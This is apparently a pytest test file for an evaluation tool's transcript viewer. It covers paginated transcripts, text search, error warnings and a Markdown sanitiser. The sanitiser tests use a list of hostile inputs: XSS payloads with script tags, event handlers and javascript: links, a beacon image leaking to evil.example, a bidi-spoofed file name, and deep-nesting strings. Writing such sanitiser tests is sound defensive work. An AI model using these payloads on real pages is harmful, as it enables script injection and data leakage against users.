import json
import time
from html.parser import HTMLParser

import pytest
from make import answered, llm, said, spans, user

from evalbench.label.annotation.markdown import TAGS, escape_text, render_markdown, visible
from evalbench.label.annotation.transcript import (
    FAILED,
    LARGEST,
    PIECE,
    find_text,
    read_text,
    read_turns,
    transcript,
)
from evalbench.session import make_session


def read(*rows, **row):
    return make_session("copilot", "s", spans(*rows), row)


def test_the_desk_shows_the_turns_of_the_session_and_nothing_else():
    call = ("1", "look", "{}")
    found = [{"id": "d", "content": "From nine.", "score": 0.5}]
    asked = llm([user("Hours?")], said("", call, name="Ann"))
    done = llm([user("Hours?"), said("", call), answered("nine", "1")], said("Nine."))
    session = read(asked, {"kind": "retriever", "name": "search", "documents": found}, done)
    turns = transcript(session)["turns"]
    assert [(turn["number"], turn["role"], turn["speaker"]) for turn in turns] == [
        (1, "user", ""),
        (2, "assistant", "Ann"),
        (3, "assistant", ""),
    ]
    tool, retrieval = turns[1]["steps"]
    assert (tool["name"], tool["given"]["text"], tool["result"]["text"]) == ("look", "{}", "nine")
    assert [(each["id"], each["text"]["text"]) for each in retrieval["documents"]] == [
        ("d", "From nine.")
    ]


def test_errors_signals_and_the_reason_are_told_at_the_top():
    failed = {"kind": "llm", "input": "Hi", "status": "error", "status_message": "timeout"}
    row = {"reported": True, "thumbs": 1, "n_retries": 1, "stars": 2.0}
    item = transcript(read(failed, failed, **row), reason="reported")
    assert item["signals"] == ["Reported by the user", "2 of 5 stars", "1 tool call repeated"]
    assert [(each["text"], each["times"]) for each in item["errors"]] == [("timeout", 2)]
    assert item["reason"] == "reported"


HOSTILE = [
    "<script>document.title='owned'</script>",
    '<img src=x onerror="document.title=1">',
    "<svg/onload=alert(1)><style>*{display:none}</style>",
    "[run](javascript:alert(1)) [run](JaVaScRiPt:alert(1)) [d](data:text/html,<script>1</script>)",
    "[server](/logout) [other](//evil.example/x) <a href='/api/shutdown'>x</a>",
    "![beacon](https://evil.example/p.png?leak=1) ![](javascript:alert(1))",
    "[![nested](https://evil.example/a.png)](https://evil.example)",
    '[t](https://evil.example "x\\" onmouseover=\\"alert(1)")',
    "<https://evil.example/?a=1> <javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```\n`<b onclick=x>`",
    "| a | b |\n|:-|-:|\n| <img src=x> | ![y](http://evil.example) |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "<iframe srcdoc='<script>1</script>'></iframe><base href=//a.example><meta http-equiv=refresh>",
    "<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;img src=1 onerror=1&gt;'>",
    "\x1b[31mred\x1b[0m \u202egnp.exe\u202c a\u200bb \u2066x\u2069 \U000e0041",
    "[x]: javascript:alert(1)\n\n[x] [y][x]",
    "> " * 3000 + "deep",
    "[" * 3000 + "![" * 3000,
]


class Seen(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_leaves_only_harmless_tags_and_links(text):
    for tag, attributes in Seen(render_markdown(text)).tags:
        assert tag in TAGS
        assert attributes == {} or tag == "a"
        assert set(attributes) <= {"href", "rel", "target"}
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
            assert attributes.get("href", "https://").startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_escaped_text_is_shown_as_it_was_written_on_one_line(text):
    page = Seen(render_markdown(f"- *{escape_text(text)}*, then"))
    assert [tag for tag, _ in page.tags] == ["ul", "li", "em"]
    assert " ".join(page.text.split()) == " ".join(f"{visible(text)}, then".split())


def test_harmless_markdown_keeps_its_form():
    html = render_markdown("**Yes**\nand [help](https://a.example)\n\n| a |\n|---|\n| 1 |")
    tags = [tag for tag, _ in Seen(html).tags]
    assert tags == ["p", "strong", "br", "a", "table", "thead", "tr", "th", "tbody", "tr", "td"]


def test_images_and_hidden_characters_are_told_as_text():
    shown = Seen(render_markdown("![x](https://evil.example/p.png)\u202eabc\x1b[31m")).text
    assert shown.strip() == "[image: https://evil.example/p.png]⟦U+202E⟧abc⟦U+001B⟧[31m"
    assert visible("tab\tline\nکتاب\u200cها") == "tab\tline\nکتاب\u200cها"
    assert visible("pass\u200cword") == "pass⟦U+200C⟧word"


def test_names_errors_and_reasons_show_their_hidden_characters_and_words_are_as_they_were():
    dirty = "\u202ex\x1b[1m"
    asked = {**said(dirty, ("", dirty, dirty)), "reasoning": dirty}
    session = read(
        llm([user(dirty, name=dirty), dirty], asked),
        {"kind": "tool", "tool_name": dirty, "tool_result": dirty, "status": "error"},
        {"kind": "retriever", "name": dirty, "documents": [{"id": dirty, "content": dirty}]},
        release=dirty,
    )
    texts, others = [], []

    def collect(node):
        if isinstance(node, str):
            others.append(node)
        elif isinstance(node, dict) and "place" in node:
            texts.append(node["text"])
        else:
            for each in node.values() if isinstance(node, dict) else ():
                collect(each)
            for each in node if isinstance(node, list | tuple) else ():
                collect(each)

    collect(transcript(session, reason=dirty))
    assert texts
    assert set(texts) == {dirty}
    assert any("⟦U+202E⟧" in text for text in others)
    assert not [text for text in others if "\u202e" in text or "\x1b" in text]


def test_a_message_of_five_million_characters_is_read_in_pieces_that_join_to_the_whole():
    whole = "".join(f"line {number} *of* many\n" for number in range(240_000))
    session = read(llm([user(whole)], said("Too long.")))
    item = transcript(session)
    assert len(json.dumps(item)) < 60_000
    text = item["turns"][0]["text"]
    assert (text["shown"], text["total"]) == (PIECE, len(whole))
    pieces, start = [text["text"]], text["shown"]
    while start < text["total"]:
        answer = read_text(session, place=text["place"], start=start)
        assert (answer["tell"], answer["start"]) == ("text", start)
        pieces.append(answer["text"])
        start = answer["shown"]
    assert "".join(pieces) == whole
    assert read_text(session, place=text["place"], start=7, stop=11)["text"] == whole[7:11]


@pytest.mark.parametrize("turns", [60, 2000])
def test_a_payload_stays_small_and_the_turns_that_it_left_out_can_be_read(turns):
    rows = [
        llm([user(f"{n} <&> " * 2000)], said(f"{n} * _" * 2000), trace_id=str(n))
        for n in range(turns // 2)
    ]
    session = read(*rows)
    item = transcript(session)
    assert len(json.dumps(item)) < 300_000
    assert item["turns"][0]["text"]["total"] == len("0 <&> " * 2000)
    shown, left_out = item["turns"], item["left_out"]
    assert (left_out > 0) == (turns == 2000)
    while left_out:
        assert len(shown) + left_out == turns
        more = read_turns(session, start=len(shown))
        assert len(json.dumps(more)) < 300_000
        shown, left_out = shown + more["turns"], more["left_out"]
    assert [turn["number"] for turn in shown] == list(range(1, turns + 1))


def test_words_are_found_in_all_of_a_session_beyond_what_is_shown():
    long = "Said once. " + "x" * 50_000 + " Refund (No. 1) refused"
    documents = [{"id": "d", "content": "refund"}]
    session = read(
        llm([user("A REFUND?")], said(long, ("1", "refund", '{"why": "refund"}'))),
        {"kind": "retriever", "name": "search", "documents": documents},
    )
    hits = find_text(session, query="refund")["hits"]
    assert [(hit["turn"], hit["place"], hit["starts"]) for hit in hits] == [
        (1, "turns.0.text", [2]),
        (2, "turns.1.text", [len(long) - 22]),
        (2, "turns.1.calls.0.arguments", [9]),
        (2, "turns.1.documents.0.content", [0]),
    ]
    assert find_text(session, query="(no. 1)")["hits"][0]["starts"] == [len(long) - 15]
    assert find_text(session, query="refunded")["hits"] == []
    assert find_text(session, query="")["hits"] == []
    assert sum(len(hit["starts"]) for hit in find_text(session, query="x")["hits"]) == 2000


@pytest.mark.parametrize("word", ["http.", "code/.", "Error", "error ", "x", "status ", "a: "])
def test_a_hostile_result_is_looked_through_in_no_time(word):
    result = (word * LARGEST)[:LARGEST]
    start = time.process_time()
    assert FAILED.search(result) is None
    assert time.process_time() - start < 2


@pytest.mark.parametrize(
    ("result", "warning"),
    [
        ("500", "500"),
        ('{"status": 500, "error": "down"}', '"status": 500, "error": "down"}'),
        ("fine\nHTTP/1.1 503 Service Unavailable", "HTTP/1.1 503 Service Unavailable"),
        ("Traceback (most recent call last):\n  x", "Traceback (most recent call last):"),
        ("builtins.ValueError: no order", "ValueError: no order"),
        ("{'error': 'no such order'}", "'error': 'no such order'}"),
        ('{"success": false}', '"success": false}'),
        ('{"status": "delivered", "error": null, "errors": []}', ""),
        ('{"total": 500, "ok": true, "error": ""}', ""),
        ("5001 terrors", ""),
    ],
)
def test_a_result_that_tells_of_an_error_warns_on_its_folded_step(result, warning):
    asked = said("", ("1", "look", "{}"))
    session = read(
        llm([user("?")], asked), llm([user("?"), asked, answered(result, "1")], said(""))
    )
    assert transcript(session)["turns"][1]["steps"][0]["warning"] == warning


def test_every_cut_text_is_found_again():
    long = "x" * 300
    session = read(
        llm([user(long), long * 100], {**said(long, ("1", "look", long)), "reasoning": long}),
        {"kind": "tool", "tool_name": "look", "tool_arguments": long, "tool_result": long},
        {"kind": "retriever", "input": long, "documents": [{"id": "d", "content": long}]},
        {"kind": "guardrail", "input": json.dumps({"input": long}), "output": long},
    )
    item = transcript(session, limit=100)
    cuts = []

    def collect(node):
        if isinstance(node, dict):
            cuts.extend([node] if node.get("shown", 0) < node.get("total", 0) else [])
            node = list(node.values())
        for each in node if isinstance(node, list) else ():
            collect(each)

    collect([item["turns"], item["gaps"]])
    assert len(cuts) == 10
    for cut in cuts:
        assert set(read_text(session, place=cut["place"], start=cut["shown"])["text"]) == {"x"}


@pytest.mark.parametrize(
    "place", ["turns.4.text", "turns.0.calls.0.result", "row", "text", "gaps.-1"]
)
def test_reading_on_where_nothing_is_says_so(place):
    with pytest.raises(ValueError, match="has no text"):
        read_text(read(llm([user("Hi")], said("Hello."))), place=place, start=0)
